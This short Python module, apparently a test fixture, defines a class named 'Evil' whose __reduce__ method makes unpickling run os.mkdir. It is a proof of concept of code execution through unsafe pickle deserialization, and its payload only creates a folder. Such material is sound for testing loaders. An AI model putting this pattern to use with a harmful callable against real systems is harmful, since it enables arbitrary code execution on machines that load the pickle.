"""An attack that works where pickles are trusted."""

import os
from pathlib import Path
from typing import Any


class Evil:
    """Makes the folder `mark` when it is unpickled by who trusts pickles."""

    def __init__(self, mark: str | Path) -> None:
        self.mark = mark

    def __reduce__(self) -> tuple[Any, ...]:
        return os.mkdir, (str(self.mark),)
